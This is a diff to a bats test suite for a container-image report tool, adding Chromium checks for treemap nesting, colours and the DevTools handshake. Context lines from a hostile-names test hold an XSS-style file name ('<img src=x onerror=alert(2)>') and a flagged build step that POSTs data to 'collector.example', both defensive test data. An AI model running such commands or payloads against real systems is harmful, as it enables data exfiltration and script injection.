@@ -79,6 +79,19 @@ EOF
 	grep -q 'id="verdict">FAIL \[pass:2 fail:1 skip:4\]<' "$R"
 	grep -q '<tr data-rule="highestUserWastedPercent"><td class="FAIL">FAIL</td>' "$R"
 	grep -q '<tr data-rule="lowestEfficiency"><td class="PASS">PASS</td>' "$R"
+	# every rule's value cell starts with the Markdown report's value, a
+	# disabled rule's too ("highestWastedBytes ... 32025")
+	CI=true "$FATHOM" "$IMG" --ci-format markdown >"$BATS_TEST_TMPDIR/ci.md" || true
+	python3 - "$R" "$BATS_TEST_TMPDIR/ci.md" <<'EOF'
+import re, sys
+page, md = open(sys.argv[1]).read(), open(sys.argv[2]).read()
+want = dict(re.findall(r"^\| (\w+) \| (?:PASS|FAIL|SKIP|WARN) \| ([^ |]+) \|", md.split("### Evaluation")[1], re.M))
+got = dict(re.findall(r'<tr data-rule="(\w+)"><td class="\w+">\w+</td><td>\w+</td><td>([^<]*)</td>', page))
+assert len(want) == 7 and sorted(want) == sorted(got), (want, got)
+for rule, v in want.items():
+    assert got[rule].split(" ")[0] == v, (rule, got[rule], v)
+assert got["highestWastedBytes"] == "32025", got
+EOF
 	# without CI: no rules section
 	"$FATHOM" report "$IMG" -o "$BATS_TEST_TMPDIR/plain.html"
 	! grep -q 'id="rules"' "$BATS_TEST_TMPDIR/plain.html"
@@ -121,7 +134,21 @@ o = json.loads(sys.argv[1])
 assert o["errors"] == [], o["errors"]
 assert o["ready"] and o["cells"] == 5, o
 assert o["dir"] == "/bin" and o["zoomKey"] == "/bin" and o["zoomOut"] == "/", o
-assert o["zoom"] == "/bin" and o["crumbs"] == 2 and o["zoomCells"] >= 1 and o["zoomTop"] == "/", o
+assert o["zoom"] == "/bin" and o["crumbs"] == 2 and o["zoomCells"] == 2 and o["zoomTop"] == "/", o
+# /bin's two files are drawn inside it, below its name; a click on one zooms into /bin
+n = o["nest"]
+assert n["nested"] == 2 and n["parents"] == 1 and n["outside"] == [] and n["unlabelled"] == [], n
+assert o["nestedFile"] == ["/bin/[", "/bin", 2], o
+# the hidden part of a bar: opaque, its colour far from every layer's
+# (layer 0 is red: so was the hidden part) and the legend's
+def rgb(s): return [int(x) for x in s[4:-1].split(",")]
+for scheme, c in o["colors"].items():
+    assert len(c["hidden"]) == 1 and c["hiddenOpacity"] == ["1 1"], (scheme, c)
+    assert c["swatch"] == c["hidden"][0], (scheme, c)
+    assert len(c["bars"]) == 14 and c["cells"], (scheme, c)
+    for f in c["bars"] + c["cells"]:
+        d = sum((a - b) ** 2 for a, b in zip(rgb(f), rgb(c["hidden"][0]))) ** 0.5
+        assert d > 64, (scheme, f, c["hidden"], d)
 assert o["layer"].startswith("Layer 13: 6.4 kB") and "chmod +x /root/saved.txt" in o["layer"], o["layer"]
 assert "0 added, 1 modified, 0 removed" in o["layer"], o["layer"]
 assert o["sorted"] == ["/root/saved.txt", "/root/example/somefile1.txt"], o["sorted"]
@@ -129,6 +156,41 @@ assert o["light"] == "rgb(255, 255, 255)" and o["dark"] != o["light"], o
 assert o["png"][1] > 64, o["png"]
 EOF
 	[ "$(head -c 8 "$BATS_TEST_TMPDIR/shot.png" | od -An -c | tr -d ' ')" = '211PNG\r\n032\n' ]
+}
+
+@test "report in Chromium: the treemap draws directories inside their parents, names kept, and zooms from inside" {
+	cat >"$BATS_TEST_TMPDIR/nest.desc" <<'EOF'
+layer "debootstrap"
+file usr/lib/x86_64-linux-gnu/libLLVM.so size=300000
+file usr/lib/x86_64-linux-gnu/libc.so.6 size=120000
+file usr/lib/gcc/x86_64-linux-gnu/12/cc1 size=150000
+file usr/share/doc/bash/copyright size=60000
+file usr/share/locale/de/LC_MESSAGES/bash.mo size=70000
+file usr/share/zoneinfo/UTC size=40000
+file usr/bin/bash size=90000
+file usr/bin/perl size=60000
+layer "RUN apt-get install"
+file var/lib/dpkg/status size=50000
+file var/cache/apt/pkgcache.bin size=40000
+file etc/ld.so.cache size=20000
+EOF
+	python3 "$ROOT/tests/fixtures/mkimage.py" "$BATS_TEST_TMPDIR/nest.desc" --format docker-legacy -o "$BATS_TEST_TMPDIR/nest.tar"
+	"$FATHOM" report "$BATS_TEST_TMPDIR/nest.tar" -o "$R"
+	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
+	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
+	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	python3 -c 'import json, sys
+o = json.loads(sys.argv[1])
+assert o["errors"] == [] and o["ready"] and o["cells"] == 3, o
+# /usr holds lib, share and bin, which hold their own directories: three levels
+n = o["nest"]
+assert n["depth"] == 2 and n["nested"] >= 10 and n["parents"] >= 5, n
+assert n["outside"] == [] and n["unlabelled"] == [], n
+# a click on a directory drawn inside /usr zooms into it; on a file inside
+# /usr/bin, into /usr/bin (three breadcrumbs: /, usr, bin)
+assert o["nestedDir"] == ["/usr/lib", "/usr/lib", 3], o
+assert o["nestedFile"] == ["/usr/bin/bash", "/usr/bin", 3], o
+assert o["dir"] == "/usr" and o["zoomKey"] == "/usr" and o["zoom"] == "/usr" and o["zoomTop"] == "/", o' "$output"
 }
 
 @test "report in Chromium: hostile names, an ONBUILD image, a streamed image" {
@@ -147,6 +209,20 @@ assert "/a</script>/<img src=x onerror=alert(2)>" in o["layer"], o' "$output"
 	grep -q '<td class="FAIL">high</td><td class="p">RUN curl -s -X POST https://collector.example/upload' "$R"
 	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
 	[ "$status" -eq 0 ] && python3 -c 'import json, sys; o = json.loads(sys.argv[1]); assert o["errors"] == [] and o["ready"], o' "$output"
+}
+
+@test "report in Chromium: the DevTools WebSocket is opened without an Origin (Chromium 150 refuses any)" {
+	"$FATHOM" report "$FIX/basic.oci-dir" -o "$R"
+	mkdir "$BATS_TEST_TMPDIR/bin"
+	ln -s "$ROOT/tests/cli/strict_chromium.py" "$BATS_TEST_TMPDIR/bin/chromium"
+	PATH=$BATS_TEST_TMPDIR/bin:$PATH STRICT_CHROMIUM_LOG=$BATS_TEST_TMPDIR/handshakes \
+		run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
+	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
+	[ "$status" -eq 0 ] || { echo "$output"; cat "$BATS_TEST_TMPDIR/handshakes"; return 1; }
+	python3 -c 'import json, sys; o = json.loads(sys.argv[1]); assert o["errors"] == [] and o["ready"], o' "$output"
+	# the handshake went through the strict proxy, and passed
+	grep -q '^passed /devtools/page/' "$BATS_TEST_TMPDIR/handshakes"
+	run ! grep refused "$BATS_TEST_TMPDIR/handshakes"
 }
 
 @test "report: errors are one line, exit status 2, no file left" {
